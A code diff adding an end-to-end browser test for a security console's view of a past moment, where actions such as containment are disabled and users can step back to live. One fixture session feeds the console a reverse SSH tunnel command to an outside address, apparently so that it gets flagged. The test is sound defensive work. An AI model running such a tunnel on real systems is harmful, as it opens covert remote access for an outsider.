@@ -268,3 +268,44 @@ test('a viewer sees everything, is told who changes it, and cannot', async ({ br
   )
   expect(refused).toBe(403)
 })
+
+test('the whole console goes back to a moment: what was known then, marked as past, with nothing that acts, and back to live', async ({
+  page,
+}) => {
+  // Given: a session that was known, and another that came later.
+  const seenAt = async (session: string) =>
+    (await product.json<{ events: { seenAtMs: number }[] }>(`/api/sessions/${session}/events`)).events[0]?.seenAtMs ?? 0
+  await says('ep-early', 'ls -l')
+  const then = await seenAt('ep-early')
+  await until('the clock has gone on', async () => Date.now() > then + 5)
+  await says('ep-late', 'ssh -NR 9000:localhost:22 u@203.0.113.9')
+  await signIn(page, product)
+  await expect(page.getByRole('link', { name: 'ep-late' }).first()).toBeVisible()
+
+  // When: the address names the moment.
+  await page.goto(`${product.url}/live?at=${then}`)
+  await expect(page.getByRole('link', { name: 'ep-early' }).first()).toBeVisible()
+  await expect(page.getByRole('link', { name: 'ep-late' })).toHaveCount(0)
+  await expect(page.getByText(/behind live/)).toBeVisible()
+  await expect(page.getByText('whole console as it was at this moment')).toBeVisible()
+  await expect(page.getByRole('button', { name: 'Contain all…' })).toHaveAttribute('aria-disabled', 'true')
+  await accessible(page)
+
+  // Then: another room keeps the moment, and one that was not kept says so.
+  await page.getByRole('link', { name: 'ep-early' }).first().click()
+  await page.waitForURL(`**/sessions/ep-early?at=${then}`)
+  await expect(page.getByRole('button', { name: /Snapshot evidence/ })).toHaveAttribute('aria-disabled', 'true')
+  await page.getByRole('link', { name: 'Rules' }).click()
+  await expect(page.getByText('Rules cannot be shown in the past')).toBeVisible()
+  await page.goBack()
+
+  // A step leads to the flag that came next; Escape leads back to now.
+  await page.goto(`${product.url}/live?at=${then}`)
+  await expect(page.getByText('whole console as it was at this moment')).toBeVisible()
+  await page.keyboard.press(']')
+  await expect(page.getByRole('link', { name: 'ep-late' }).first()).toBeVisible()
+  await page.keyboard.press('Escape')
+  await expect(page.getByText(/behind live/)).toHaveCount(0)
+  await expect(page.getByRole('button', { name: 'Contain all…' })).not.toHaveAttribute('aria-disabled', 'true')
+  expect(new URL(page.url()).searchParams.get('at')).toBeNull()
+})
